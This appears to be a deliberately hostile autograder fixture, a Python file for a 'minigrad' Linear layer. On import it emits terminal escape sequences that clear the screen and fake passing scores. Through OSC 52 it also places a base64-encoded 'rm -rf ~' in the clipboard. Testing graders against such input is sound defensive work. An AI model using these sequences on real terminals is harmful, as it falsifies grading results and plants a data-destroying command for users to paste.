"""Hostile: print terminal control sequences: clear the screen, draw a fake score, write the clipboard (OSC 52)."""
import numpy as np  # noqa: F401
from minigrad import Function

print("\x1b[2J\x1b[Hlinear      10/10   pass\r\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;all passed\x07")
raise ValueError("\x1b[1A\x1b[2Ktotal 130/130")  # an error message is shown to the instructor too


class Linear(Function):
    @staticmethod
    def forward(ctx, x, weight, bias):
        return x @ weight.T + bias
